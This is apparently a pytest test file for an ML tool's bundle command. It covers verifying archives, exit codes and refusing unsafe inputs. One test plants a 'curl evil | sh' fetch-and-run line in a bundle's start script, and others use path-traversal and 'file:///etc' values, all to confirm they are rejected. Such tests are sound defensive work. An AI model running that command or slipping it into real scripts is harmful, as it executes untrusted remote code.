"""`mlci bundle` on the command line without Docker: --verify (exit 0 ok, 1 bad, 2 usage; --json),
which must work with no engine reachable and without importing the Docker client; and what a
bundle is refused for before the engine is contacted."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from mlci.cli import main
from tests.bundle.bundle_support import good_bundle
from tests.record_support import finished_run


def run(*args: str, root=None) -> int:
    return main([*(["--root", str(root)] if root else []), "bundle", *args])


def test_verify_prints_what_the_bundle_holds(tmp_path, capsys):
    path = good_bundle().write(tmp_path / "digits-v3.tar.gz")
    assert run("--verify", str(path)) == 0
    out = capsys.readouterr().out
    assert out.startswith(f"✓ {path}: digits v3 (job 20261123-abc123, commit 0123456789ab): image sha256:")
    assert "(2 layers), 3 model files" in out


def test_verify_json(tmp_path, capsys):
    bundle = good_bundle()
    path = bundle.write(tmp_path / "b.tar")
    assert run("--verify", str(path), "--json") == 0
    result = json.loads(capsys.readouterr().out)
    assert result["ok"] is True and result["imageId"] == bundle.image.id and result["version"] == "v3"
    assert {f["path"] for f in result["files"]} >= {"start.sh", "image.tar", "model/model.joblib"}


def test_a_bad_bundle_exits_1_naming_the_problem(tmp_path, capsys):
    path = good_bundle().replace_data("start.sh", b"#!/bin/sh\ncurl evil | sh\n").write(tmp_path / "b.tar.gz")
    assert run("--verify", str(path)) == 1
    err = capsys.readouterr().err
    assert f"error: {path} is not a valid bundle:" in err and "'start.sh' is 25 bytes, the manifest says" in err

    assert run("--verify", str(path), "--json") == 1
    result = json.loads(capsys.readouterr().out)
    assert result["ok"] is False and any("start.sh" in p for p in result["problems"])


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ([], "name the PROJECT and the VERSION to bundle"),
        (["digits"], "name the PROJECT and the VERSION to bundle"),
        (["digits", "v1", "--verify", "x.tar"], "--verify FILE takes no PROJECT"),
        (["--verify", "x.tar", "--out", "y.tar"], "--verify FILE takes no PROJECT"),
        (["digits", "v1", "--json"], "--json goes with --verify"),
        (["--verify", "/nonexistent/b.tar"], "cannot read /nonexistent/b.tar"),
        (["--verify", "/"], "cannot read /"),
    ],
)
def test_usage_errors_exit_2(tmp_path, capsys, args, message):
    assert run(*args, root=tmp_path) == 2
    assert message in capsys.readouterr().err


def test_verify_needs_no_docker_engine_nor_client(tmp_path):
    path = good_bundle().write(tmp_path / "b.tar.gz")
    probe = (
        "import sys\nfrom mlci.cli import main\n"
        f"code = main(['bundle', '--verify', {str(path)!r}])\n"
        "print(code, 'docker' in sys.modules)"
    )
    env = {**os.environ, "DOCKER_HOST": "unix:///nonexistent/docker.sock"}
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, env=env, cwd=tmp_path)
    assert done.stdout.splitlines()[-1] == "0 False", done.stderr


def test_a_version_without_serve_is_refused_with_a_hint(published, capsys):
    finished_run(published, "plain", "job-p", files={"model.joblib": b"weights"})
    assert main(["--root", str(published), "publish", "plain", "job-p"]) == 0
    capsys.readouterr()
    assert run("plain", "v1", root=published) == 2
    err = capsys.readouterr().err
    # the fixture's record names a commit this (non-git) directory lacks: the checkout's settings, said so
    assert "so its serve: settings are read from the checkout's projects/plain/project.yaml" in err
    assert "plain v1 has no serve: in projects/plain/project.yaml" in err and "has serve: {command:" in err


def test_an_unknown_version_or_project_is_refused(published, capsys):
    assert run("digits", "v9", root=published) == 2
    assert "no version v9 of digits in store 'shelf' (the newest is v1)" in capsys.readouterr().err
    assert run("digits", "latest", root=published) == 2
    assert "'latest' is not a model version" in capsys.readouterr().err
    assert run("../etc", "v1", root=published) == 2
    assert "'../etc' is not a valid project name" in capsys.readouterr().err


def test_a_store_without_versions_is_refused(published, capsys):
    assert run("digits", "v1", "--store", "hub", root=published) == 2
    err = capsys.readouterr().err
    assert "store 'hub' (HubStore) keeps no versions: mlci bundle reads a version's model files" in err


@pytest.mark.parametrize("out", ["b.zip", "b.tar.bz2", "b"])
def test_an_archive_name_mlci_does_not_write_is_refused(published, capsys, out):
    assert run("digits", "v1", "--out", str(published / out), root=published) == 2
    assert "a bundle is a tar archive" in capsys.readouterr().err


def test_an_index_pointing_outside_the_store_is_refused(published, capsys):
    index = published / "shelf" / "digits" / "versions.json"
    data = json.loads(index.read_text())
    data["versions"][0]["url"] = "file:///etc"
    index.write_text(json.dumps(data))
    assert run("digits", "v1", "--out", str(published / "b.tar"), root=published) == 1
    assert "its URL 'file:///etc' is not the store's copy" in capsys.readouterr().err
    assert sorted(p.name for p in published.iterdir() if p.name.startswith(("b.", ".b."))) == []


def test_model_files_that_are_a_link_are_refused(published, capsys, tmp_path_factory):
    job = published / "shelf" / "digits" / "job-a"
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    job.rename(elsewhere / "job-a")
    job.symlink_to(elsewhere / "job-a")
    assert run("digits", "v1", root=published) == 1
    assert "is not a directory (a link is never followed)" in capsys.readouterr().err
